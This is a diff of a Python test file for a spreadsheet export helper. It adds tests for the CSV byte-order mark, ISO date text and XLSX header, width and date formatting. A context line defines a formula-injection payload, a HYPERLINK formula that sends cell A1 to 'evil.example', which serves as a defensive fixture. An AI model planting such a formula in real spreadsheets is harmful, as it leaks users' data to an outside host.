@@ -1,3 +1,4 @@
+import datetime
 import io
 import re
 from pathlib import Path
@@ -5,7 +6,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from carnet.lib.spreadsheets import csv_text, read_cell, safe_cell, xlsx_bytes
+from carnet.lib.spreadsheets import csv_bytes, csv_text, read_cell, safe_cell, xlsx_bytes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 
@@ -64,3 +65,32 @@ def test_no_module_writes_a_spreadsheet_without_the_cell_helper():
         if path.name != "spreadsheets.py" and WRITERS.search(path.read_text(encoding="utf-8"))
     ]
     assert offenders == []
+
+
+def test_a_csv_for_people_starts_with_the_byte_order_mark_excel_needs_for_accents():
+    data = csv_bytes([["Organisation"], ["Caritas Shkodër"]])
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert data.decode("utf-8-sig") == "Organisation\r\nCaritas Shkodër\r\n"
+
+
+def test_csv_dates_are_iso_text():
+    when = datetime.datetime(2016, 10, 1, 14, 30)
+    assert csv_text([[datetime.date(2016, 10, 1), when]]) == "2016-10-01,2016-10-01 14:30\r\n"
+
+
+def test_an_xlsx_has_a_frozen_bold_header_columns_as_wide_as_their_text_and_real_dates():
+    rows = [
+        ["Organisation", "Joined"],
+        ["Caritas Albania, Shkodër office", datetime.date(2016, 10, 1)],
+    ]
+    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, title="members"))).active
+    assert sheet.freeze_panes == "A2"
+    assert sheet["A1"].font.b is True
+    assert sheet.column_dimensions["A"].width == len("Caritas Albania, Shkodër office") + 2
+    assert sheet.column_dimensions["B"].width == len("2016-10-01") + 2
+    assert sheet["B2"].is_date and sheet["B2"].value == datetime.datetime(2016, 10, 1)
+
+
+def test_a_very_long_text_does_not_make_a_column_wider_than_the_screen():
+    sheet = load_workbook(io.BytesIO(xlsx_bytes([["Story"], ["x" * 500]], title="t"))).active
+    assert sheet.column_dimensions["A"].width == 60
